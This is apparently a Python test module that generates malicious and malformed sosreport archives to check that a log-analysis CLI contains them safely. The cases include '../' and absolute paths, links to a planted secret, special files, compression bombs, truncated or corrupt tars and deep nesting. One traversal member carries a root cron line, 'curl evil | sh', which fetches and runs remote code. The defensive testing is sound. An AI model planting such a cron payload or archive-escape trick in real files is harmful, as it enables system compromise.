"""The hostile and broken input corpus, generated at test time (nothing binary is committed).

Each builder writes one or more inputs into `inputs` (a folder inside a sandbox root, see
`tests/hostile/sandbox.py`) and returns a :class:`Case`: the inputs to give the CLI and what
the report must then say about them (`Expect`: the inventory row or input error naming the
problem). Paths that try to escape point at places inside the sandbox root, so a write or a
read through them would show up in the root's snapshot or in the report.

Run as a script to write the whole corpus into a folder for manual runs:

    python -m tests.hostile.corpus /tmp/corpus
"""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import sys
import tarfile
from dataclasses import dataclass, field
from pathlib import Path

import zstandard

from tests.hostile.sandbox import SECRET_NAME as SECRET_FILE
from tests.ingest.tarbuild import add_file, add_link, add_special, sosreport_members

ROOT = "sosreport-controller-0-2020-05-14-abcdefg"
GOOD_ROOT = "sosreport-controller-1-2020-05-14-hjklmno"
MTIME = 1589431552
# Planted in the sandbox root: a link or path that reached it would put it in the report.
SANDBOX_SECRET = "sandbox-secret-7f3a9c: must never be read"
OSLO_LINE = ("2020-05-14 04:45:52.123 27 INFO nova.api.openstack.requestlog [req-5c1e6b2a-0f4e-4d7c-9a55-"
             "3f1f0e7c2b11 7b1c8d0e6f5a4b3c9d2e1f0a8b7c6d5e 4a3b2c1d0e9f8a7b6c5d4e3f2a1b0c9d - default default] "
             "172.17.1.14 \"GET /v2.1/servers/detail\" status: 200 len: 1851 microversion: 2.1 time: 0.164307\n")


@dataclass
class Expect:
    """A problem the report must name: in the inventory (`path`) or in an input's errors."""

    path: str | None          # inventory path (None: an input-level error of `input`)
    input: str                # file name of the input
    status: str               # error | skipped | parsed | partial (input status)
    reason: str               # a fragment the reason must contain (case-insensitive)


@dataclass
class Case:
    name: str
    inputs: list[Path]
    expect: list[Expect] = field(default_factory=list)
    seconds: float = 30.0     # the run must end within this (the CLI, start to end)
    rss_mb: int = 400         # peak resident memory of the CLI and its workers
    args: list[str] = field(default_factory=list)


# -- building blocks -------------------------------------------------------------------------

def container_table(rows: list[list[str]]) -> str:
    """`podman ps -a` as podman 1.6-3.x prints it: columns padded with two spaces."""
    header = ["CONTAINER ID", "IMAGE", "COMMAND", "CREATED", "STATUS", "PORTS", "NAMES"]
    widths = [max(len(r[i]) for r in rows + [header]) for i in range(len(header))]
    return "".join("  ".join(c.ljust(widths[i]) for i, c in enumerate(r)).rstrip() + "\n"
                   for r in [header] + rows)


PODMAN_PS = container_table([
    ["0c1f2e3d4b5a", "undercloud-0.ctlplane.localdomain:8787/rh-osbs/rhosp16-openstack-nova-api:16.2_20220427.1",
     "kolla_start", "3 days ago", "Up 3 days ago (unhealthy)", "", "nova_api"],
    ["736aa9c221e3", "undercloud-0.ctlplane.localdomain:8787/rh-osbs/rhosp16-openstack-iscsid:16.2_20220427.1",
     "kolla_start", "3 days ago", "Up 3 days ago (healthy)", "", "iscsid"],
])


def good_members(root: str = GOOD_ROOT, hostname: str = "controller-1") -> list[tuple]:
    """A small sos 4.2 report whose `podman ps -a` shows nova_api (unhealthy)."""
    return sosreport_members(root, hostname=hostname) + [
        ("file", f"{root}/sos_commands/podman/podman_ps_-a", PODMAN_PS)]


def tar_bytes(members: list[tuple], fmt=tarfile.GNU_FORMAT) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as tf:
        for m in members:
            if m[0] == "file":
                add_file(tf, m[1], m[2])
            elif m[0] in ("link", "hardlink"):
                add_link(tf, m[1], m[2], hard=m[0] == "hardlink")
            elif m[0] == "fifo":
                add_special(tf, m[1], tarfile.FIFOTYPE)
            elif m[0] == "chr":
                add_special(tf, m[1], tarfile.CHRTYPE)
            elif m[0] == "blk":
                add_special(tf, m[1], tarfile.BLKTYPE)
    return buf.getvalue()


def compress(raw: bytes, how: str) -> bytes:
    if how == "xz":
        return lzma.compress(raw, preset=1)
    if how == "gz":
        return gzip.compress(raw, compresslevel=6, mtime=0)
    if how == "bz2":
        return bz2.compress(raw, 1)             # 100 kB blocks: a cut keeps the blocks before it
    if how == "zst":
        return zstandard.ZstdCompressor(level=3).compress(raw)
    return raw


def write_tar(path: Path, members: list[tuple], how: str = "xz") -> Path:
    path.write_bytes(compress(tar_bytes(members), how))
    return path


def good_sosreport(folder: Path) -> Path:
    """The good input given next to every hostile one: its finding must survive."""
    return write_tar(folder / f"{GOOD_ROOT}.tar.xz", good_members())


def tar_head(members: list[tuple]) -> bytes:
    """A tar of `members` without its end-of-archive blocks, to append more members to."""
    raw = tar_bytes(members)
    while raw.endswith(b"\0" * 512):
        raw = raw[:-512]
    return raw


def _header(name: str, size: int, type_=tarfile.REGTYPE) -> bytes:
    ti = tarfile.TarInfo(name)
    ti.size = size
    ti.type = type_
    ti.mtime = MTIME
    return ti.tobuf(tarfile.GNU_FORMAT)


def _pad(n: int) -> bytes:
    return b"\0" * ((512 - n % 512) % 512)


def _zstd_stream(path: Path, pieces) -> Path:
    """Write the concatenation of `pieces` (bytes, or (block, repeat)) zstd-compressed."""
    cctx = zstandard.ZstdCompressor(level=1)
    with open(path, "wb") as out, cctx.stream_writer(out) as w:
        for piece in pieces:
            if isinstance(piece, tuple):
                block, times = piece
                for _ in range(times):
                    w.write(block)
            else:
                w.write(piece)
    return path


def _log_block() -> bytes:
    return OSLO_LINE.encode() * (1048576 // len(OSLO_LINE))


# -- the cases -------------------------------------------------------------------------------

def unsafe_paths(inputs: Path, sandbox: Path) -> Case:
    """`../` and absolute member names aimed at the sandbox root."""
    absolute = str(sandbox / "escaped-abs" / "owned")
    members = sosreport_members(ROOT) + [
        ("file", f"{ROOT}/../../escaped-dotdot/owned", "* * * * * root curl evil | sh\n"),
        ("file", "../escaped-dotdot/cron", "* * * * * root curl evil | sh\n"),
        ("file", absolute, "owned\n"),
        ("file", f"{ROOT}/sos_commands/pacemaker/..\\..\\..\\escaped-backslash", "owned\n"),
    ]
    path = write_tar(inputs / "unsafe-paths.tar.xz", members)
    return Case("unsafe_paths", [path], [
        Expect(f"{ROOT}/../../escaped-dotdot/owned", path.name, "error", "'..'"),
        Expect("../escaped-dotdot/cron", path.name, "error", "'..'"),
        Expect(absolute, path.name, "error", "absolute path"),
        Expect(f"{ROOT}/sos_commands/pacemaker/..\\..\\..\\escaped-backslash", path.name, "error", "'..'"),
    ])


def link_escapes(inputs: Path, sandbox: Path) -> Case:
    """Symlinks and hardlinks to the sandbox's secret, relative and absolute."""
    secret = sandbox / SECRET_FILE
    depth = "../" * (len(sandbox.parts) + 4)
    members = sosreport_members(ROOT) + [
        ("link", f"{ROOT}/etc/haproxy/haproxy.cfg", str(secret)),
        ("link", f"{ROOT}/var/log/messages", depth + str(secret).lstrip("/")),
        ("link", f"{ROOT}/sos_commands/pacemaker/pcs_status_--full", "../../../secret.txt"),
        ("hardlink", f"{ROOT}/etc/rhosp-release", str(secret)),
        ("hardlink", f"{ROOT}/sos_commands/rabbitmq/rabbitmqctl_report", "../secret.txt"),
    ]
    path = write_tar(inputs / "link-escapes.tar.xz", members)
    return Case("link_escapes", [path], [
        Expect("etc/haproxy/haproxy.cfg", path.name, "skipped", "outside the archive"),
        Expect("var/log/messages", path.name, "skipped", "outside the archive"),
        Expect("sos_commands/pacemaker/pcs_status_--full", path.name, "skipped", "outside the archive"),
        Expect("etc/rhosp-release", path.name, "skipped", "outside the archive"),
        Expect("sos_commands/rabbitmq/rabbitmqctl_report", path.name, "skipped", "outside the archive"),
    ])


def special_members(inputs: Path, sandbox: Path) -> Case:
    """A fifo, a character and a block device where a catalogued file would be."""
    members = sosreport_members(ROOT) + [
        ("fifo", f"{ROOT}/sos_commands/pacemaker/pcs_status_--full"),
        ("chr", f"{ROOT}/var/log/messages"),
        ("blk", f"{ROOT}/dev/sda"),
    ]
    path = write_tar(inputs / "special-members.tar.xz", members)
    return Case("special_members", [path], [
        Expect("sos_commands/pacemaker/pcs_status_--full", path.name, "skipped", "fifo"),
        Expect("var/log/messages", path.name, "skipped", "special file"),
        Expect("dev/sda", path.name, "skipped", "special file"),
    ])


BOMB_BYTES = 4 * 1024 ** 3


def bomb_real(inputs: Path, sandbox: Path) -> Case:
    """A 4 GiB command output that compresses to under a megabyte: read through, tail kept.
    (A log that size is scanned whole in chunks: tests/ingest/test_big_member.py.)"""
    block = _log_block()
    n = BOMB_BYTES // len(block)
    size = n * len(block)
    name = f"{ROOT}/sos_commands/host/hostnamectl_status"
    head = tar_head(sosreport_members(ROOT))        # without its end-of-archive blocks
    path = _zstd_stream(inputs / "bomb-4gib.tar.zst",
                        [head, _header(name, size), (block, n), _pad(size), b"\0" * 1024])
    return Case("bomb_real", [path], [
        Expect("sos_commands/host/hostnamectl_status", path.name, "parsed", "only the last"),
    ], seconds=90, rss_mb=700)


def bomb_declared(inputs: Path, sandbox: Path) -> Case:
    """A header claiming 64 GiB followed by a few KB: a truncated archive."""
    name = f"{ROOT}/var/log/containers/nova/nova-api.log"
    raw = tar_head(sosreport_members(ROOT)) + _header(name, 64 * 1024 ** 3) + OSLO_LINE.encode() * 40
    path = inputs / "declared-64gib.tar.xz"
    path.write_bytes(compress(raw, "xz"))
    return Case("bomb_declared", [path], [Expect(None, path.name, "partial", "truncated")])


def pax_header_bomb(inputs: Path, sandbox: Path) -> Case:
    """A pax extended header of 1 GiB (tarfile would read it whole into memory)."""
    size = 1024 ** 3
    record = b"1048576 comment=" + b"x" * (1048576 - 17) + b"\n"   # valid pax records, 1 MiB each
    assert len(record) == 1048576
    head = tar_head(sosreport_members(ROOT))
    path = _zstd_stream(inputs / "pax-bomb.tar.zst",
                        [head, _header("././@PaxHeader", size, tarfile.XHDTYPE), (record, size // len(record)),
                         _header(f"{ROOT}/etc/hostname", 13), b"controller-0\n", _pad(13), b"\0" * 1024])
    return Case("pax_header_bomb", [path], [Expect(None, path.name, "partial", "header")],
                seconds=60, rss_mb=400)


def truncated(how: str):
    def build(inputs: Path, sandbox: Path) -> Case:
        """A compressed sosreport cut at several offsets: the head only, half, all but the end."""
        lines = "".join(f"2020-05-14 04:{i // 60 % 60:02d}:{i % 60:02d}.{i % 1000:03d} 27 ERROR "
                        f"oslo.messaging._drivers.impl_rabbit [req-{i:08d}-aaaa-bbbb-cccc-dddddddddddd - - - - -] "
                        f"Connection failed: [Errno 111] ECONNREFUSED (retrying in {i % 30}.0 seconds)\n"
                        for i in range(6000))
        full = compress(tar_bytes(sosreport_members(ROOT) + [
            ("file", f"{ROOT}/var/log/containers/nova/nova-compute.log", lines)]), how)
        cases, expects = [], []
        for label, cut in (("head", 12), ("half", len(full) // 2), ("end", len(full) - 9)):
            path = inputs / f"cut-{label}.tar.{how}"
            path.write_bytes(full[:cut])
            cases.append(path)
            expects.append(Expect(None, path.name, "partial" if label != "head" else "error",
                                  "truncated" if label != "head" else "damaged"))
        return Case(f"truncated_{how}", cases, expects)
    build.__name__ = f"truncated_{how}"
    return build


def corrupt_header(inputs: Path, sandbox: Path) -> Case:
    """A tar whose third member header has a bad checksum: the rest is lost, and said so."""
    members = sosreport_members(ROOT) + [
        ("file", f"{ROOT}/sos_commands/podman/podman_ps_-a", PODMAN_PS)]
    raw = bytearray(tar_bytes(members))
    offsets, pos = [], 0
    while pos < len(raw) and raw[pos:pos + 512] != b"\0" * 512:
        offsets.append(pos)
        size = int(raw[pos + 124:pos + 136].split(b"\0")[0].strip() or b"0", 8)
        pos += 512 + size + _pad_len(size)
    raw[offsets[2] + 10] ^= 0x20                       # one bit of the name: checksum no longer matches
    path = inputs / "bad-checksum.tar"
    path.write_bytes(bytes(raw))
    return Case("corrupt_header", [path], [Expect(None, path.name, "partial", "header")])


def _pad_len(n: int) -> int:
    return (512 - n % 512) % 512


def empty_outputs(inputs: Path, sandbox: Path) -> Case:
    """Zero-byte and whitespace-only command outputs where sos could not run the command."""
    members = sosreport_members(ROOT) + [
        ("file", f"{ROOT}/sos_commands/pacemaker/pcs_status_--full", ""),
        ("file", f"{ROOT}/sos_commands/podman/podman_ps_-a", "\n"),
        ("file", f"{ROOT}/sos_commands/rabbitmq/rabbitmqctl_report", ""),
        ("file", f"{ROOT}/var/lib/config-data/puppet-generated/haproxy/etc/haproxy/haproxy.cfg", ""),
        ("file", f"{ROOT}/var/log/containers/nova/nova-api.log", ""),
    ]
    path = write_tar(inputs / "empty-outputs.tar.xz", members)
    return Case("empty_outputs", [path], [
        Expect("sos_commands/pacemaker/pcs_status_--full", path.name, "any", ""),
        Expect("sos_commands/podman/podman_ps_-a", path.name, "any", ""),
        Expect("sos_commands/rabbitmq/rabbitmqctl_report", path.name, "any", ""),
        Expect("var/lib/config-data/puppet-generated/haproxy/etc/haproxy/haproxy.cfg", path.name, "any", ""),
        Expect("var/log/containers/nova/nova-api.log", path.name, "parsed", ""),
    ])


def long_line(inputs: Path, sandbox: Path) -> Case:
    """A 1 MiB log record on one line (a dumped request body), and a 1 MiB line of no format."""
    big = ("2020-05-14 04:45:52.123 27 ERROR nova.api.openstack.wsgi [req-1 - - - - -] Unexpected "
           "exception in API method: body=" + "A" * 1048576 + "\n")
    members = sosreport_members(ROOT) + [
        ("file", f"{ROOT}/var/log/containers/nova/nova-api.log", big),
        ("file", f"{ROOT}/var/log/messages", "x" * 1048576),
    ]
    path = write_tar(inputs / "long-line.tar.xz", members)
    return Case("long_line", [path], [
        Expect("var/log/containers/nova/nova-api.log", path.name, "parsed", ""),
        Expect("var/log/messages", path.name, "parsed", ""),
    ])


def long_line_pattern_prefix(inputs: Path, sandbox: Path) -> Case:
    """A 1 MiB line repeating the literal start of a shipped rule's log pattern."""
    line = b"2020-05-14 04:45:52 140123 [Note] " + b"WSREP: State transfer to " * 42000 + b"\n"
    members = sosreport_members(ROOT) + [("file", f"{ROOT}/var/log/containers/mysql/mysqld.log", line)]
    path = write_tar(inputs / "long-line-wsrep.tar.xz", members)
    return Case("long_line_pattern_prefix", [path], [
        Expect("var/log/containers/mysql/mysqld.log", path.name, "parsed", "")])


def nul_and_invalid_utf8(inputs: Path, sandbox: Path) -> Case:
    """NUL bytes and latin-1 bytes inside command outputs and a log."""
    ps = PODMAN_PS.encode().replace(b"iscsid", b"iscsid\0\0\0") + b"\xff\xfe\xe9t\xe9\n"
    log = (OSLO_LINE.encode() + b"\0" * 4096 + b"2020-05-14 04:46:00.000 27 ERROR nova.api [-] caf\xe9 "
           b"cr\xe8me \xc3\x28 \xf0\x28\x8c\x28\n")
    members = sosreport_members(ROOT) + [
        ("file", f"{ROOT}/sos_commands/podman/podman_ps_-a", ps),
        ("file", f"{ROOT}/var/log/containers/nova/nova-api.log", log),
        ("file", f"{ROOT}/sos_commands/pacemaker/pcs_status_--full", b"\0" * 2048),
    ]
    path = write_tar(inputs / "nul-utf8.tar.xz", members)
    return Case("nul_and_invalid_utf8", [path], [
        Expect("sos_commands/podman/podman_ps_-a", path.name, "any", ""),
        Expect("var/log/containers/nova/nova-api.log", path.name, "parsed", ""),
        Expect("sos_commands/pacemaker/pcs_status_--full", path.name, "any", ""),
    ])


def nested(inputs: Path, sandbox: Path) -> Case:
    """A case tarball holding a tarball holding a tarball ... five levels deep."""
    inner = tar_bytes(sosreport_members("sosreport-compute-3-2020-05-14-zzzzzzz", hostname="compute-3"))
    names = []
    for level in range(5, 0, -1):
        name = f"level{level}.tar"
        names.append(name)
        inner = tar_bytes([("file", f"case-{level}/{name}", inner)])
    path = inputs / "nested.tar"
    path.write_bytes(inner)
    return Case("nested", [path], [Expect("case-1/level1.tar/case-2/level2.tar/case-3/level3.tar/case-4/level4.tar",
                                          path.name, "skipped", "nested deeper than")])


MANY = 100_000


def many_members(inputs: Path, sandbox: Path) -> Case:
    """100 000 tiny members (a sosreport with a huge /proc or /sys copy)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tf:
        for m in sosreport_members(ROOT):
            if m[0] == "file":
                add_file(tf, m[1], m[2])
        ti = tarfile.TarInfo()
        ti.mtime = MTIME
        for i in range(MANY):
            ti.name = f"{ROOT}/sys/devices/virtual/net/tap{i:06d}/mtu"
            ti.size = 5
            buf.write(ti.tobuf(tarfile.GNU_FORMAT))
            buf.write(b"1450\n" + b"\0" * 507)
    path = inputs / "many-members.tar.zst"
    path.write_bytes(compress(buf.getvalue(), "zst"))
    return Case("many_members", [path], [
        Expect("sys/devices/virtual/net/tap000000/mtu", path.name, "skipped", "not in the catalogue")],
        seconds=90)


def odd_names(inputs: Path, sandbox: Path) -> Case:
    """Latin-1 bytes in member names and a 5000-character name (GNU long name)."""
    raw = bytearray(tar_head(sosreport_members(ROOT)))
    for name, data in ((f"{ROOT}/etc/caf\xe9.conf".encode("latin-1"), PODMAN_PS.encode()),
                       (f"{ROOT}/var/log/containers/nova\xe9/nova-api.log".encode("latin-1"), OSLO_LINE.encode())):
        ti = tarfile.TarInfo("x")
        ti.size = len(data)
        ti.mtime = MTIME
        block = bytearray(ti.tobuf(tarfile.USTAR_FORMAT))
        block[0:100] = name.ljust(100, b"\0")
        block[148:156] = b"        "
        block[148:156] = b"%06o\0 " % sum(block)
        raw += block + data + _pad(len(data))
    long_name = f"{ROOT}/var/log/containers/nova/" + "n" * 5000 + ".log"
    raw += tar_bytes([("file", long_name, OSLO_LINE)])
    path = inputs / "odd-names.tar"
    path.write_bytes(bytes(raw))
    return Case("odd_names", [path], [
        Expect("etc/caf\ufffd.conf", path.name, "skipped", "not in the catalogue"),
        Expect("var/log/containers/nova\ufffd/nova-api.log", path.name, "parsed", ""),
        Expect("var/log/containers/nova/" + "n" * 5000 + ".log", path.name, "parsed", ""),
    ])


FIXTURE = Path(__file__).resolve().parents[2] / "fixtures" / "rhosp16-podman" / "sosreport-controller-1-2022-05-14-mwzkeyd"
CUT_SOURCES = {
    "sos_commands/pacemaker/pcs_status_--full": 0.55,
    "sos_commands/rabbitmq/podman_exec_rabbitmq-bundle-podman-1_rabbitmqctl_report": 0.4,
    "var/lib/config-data/puppet-generated/haproxy/etc/haproxy/haproxy.cfg": 0.5,
}


def cut_mid_line(inputs: Path, sandbox: Path) -> Case:
    """pcs status, rabbitmqctl report and haproxy.cfg of a fixture node, each cut mid-line."""
    members = sosreport_members(ROOT)
    for rel, fraction in CUT_SOURCES.items():
        data = (FIXTURE / rel).read_bytes()
        cut = int(len(data) * fraction)
        while data[cut - 1:cut] in (b"\n", b" "):
            cut += 1                                  # land inside a word, not at a line end
        members.append(("file", f"{ROOT}/{rel}", data[:cut]))
    path = write_tar(inputs / "cut-mid-line.tar.xz", members)
    return Case("cut_mid_line", [path], [Expect(rel, path.name, "any", "") for rel in CUT_SOURCES])


def unpacked_folder(inputs: Path, sandbox: Path) -> Case:
    """An unpacked sosreport folder with links out of it, a link loop, a fifo and a socket-like file."""
    import os

    case_dir = inputs / "case-folder"
    root = case_dir / ROOT
    for m in sosreport_members(ROOT):
        target = case_dir / m[1]
        target.parent.mkdir(parents=True, exist_ok=True)
        if m[0] == "file":
            target.write_text(m[2])
        else:
            os.symlink(m[2], target)
    (root / "etc" / "haproxy").mkdir(parents=True)
    os.symlink(sandbox / SECRET_FILE, root / "etc" / "haproxy" / "haproxy.cfg")
    (root / "var" / "log").mkdir(parents=True)
    os.symlink("../../../../../" + SECRET_FILE, root / "var" / "log" / "messages")
    os.symlink(sandbox, root / "var" / "log" / "containers")          # a folder link out of the input
    (root / "sos_commands" / "pacemaker").mkdir(parents=True)
    os.mkfifo(root / "sos_commands" / "pacemaker" / "pcs_status_--full")   # opening it would block
    os.symlink("crm_mon_b", root / "sos_commands" / "pacemaker" / "crm_mon_-1_-A_-n_-r_-t")
    os.symlink("crm_mon_-1_-A_-n_-r_-t", root / "sos_commands" / "pacemaker" / "crm_mon_b")
    os.symlink(sandbox / SECRET_FILE, case_dir / "haproxy.cfg")       # a link in the case folder itself
    return Case("unpacked_folder", [case_dir], [
        Expect("etc/haproxy/haproxy.cfg", ROOT, "skipped", "outside the input"),
        Expect("var/log/messages", ROOT, "skipped", "outside the input"),
        Expect("sos_commands/pacemaker/pcs_status_--full", ROOT, "skipped", "fifo"),
        Expect("sos_commands/pacemaker/crm_mon_-1_-A_-n_-r_-t", ROOT, "skipped", "link"),
        Expect("haproxy.cfg", case_dir.name, "skipped", "not followed"),
    ])


def not_an_archive(inputs: Path, sandbox: Path) -> Case:
    """Random bytes with a tarball's name, and an xz stream of random bytes."""
    junk = inputs / "sosreport-junk.tar.xz"
    junk.write_bytes(bytes((i * 7919 + 13) % 251 for i in range(70000)))
    xz = inputs / "photo.tar.xz"
    xz.write_bytes(lzma.compress(bytes((i * 104729) % 253 for i in range(70000))))
    return Case("not_an_archive", [junk, xz], [
        Expect(None, junk.name, "error", "not"),
        Expect(None, xz.name, "error", "not"),
    ])


CASES = [unsafe_paths, link_escapes, special_members, bomb_real, bomb_declared, pax_header_bomb,
         truncated("xz"), truncated("gz"), truncated("bz2"), truncated("zst"), corrupt_header,
         empty_outputs, long_line, long_line_pattern_prefix, nul_and_invalid_utf8, nested,
         many_members, odd_names, cut_mid_line, unpacked_folder, not_an_archive]
CASES_BY_NAME = {builder.__name__: builder for builder in CASES}


def main(argv: list[str]) -> None:
    out = Path(argv[0] if argv else "hostile-corpus").resolve()
    for builder in CASES:
        folder = out / builder.__name__
        folder.mkdir(parents=True, exist_ok=True)
        case = builder(folder, out)
        print(f"{case.name}: {', '.join(p.name for p in case.inputs)}")
    good_sosreport(out)


if __name__ == "__main__":
    main(sys.argv[1:])
